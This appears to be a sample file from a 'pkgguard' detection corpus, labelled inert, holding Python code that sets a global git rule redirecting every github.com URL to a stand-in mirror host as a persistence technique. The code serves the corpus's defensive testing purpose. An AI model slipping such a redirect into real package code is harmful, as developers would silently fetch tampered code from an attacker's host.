# pkgguard corpus 800 (persistence), modelled on [developer-persistence]; inert, never run.
import shutil
import subprocess

if shutil.which("git"):
    subprocess.run(
        ["git", "config", "--global", "url.https://git-mirror.example/github/.insteadOf", "https://github.com/"],
        capture_output=True,
    )
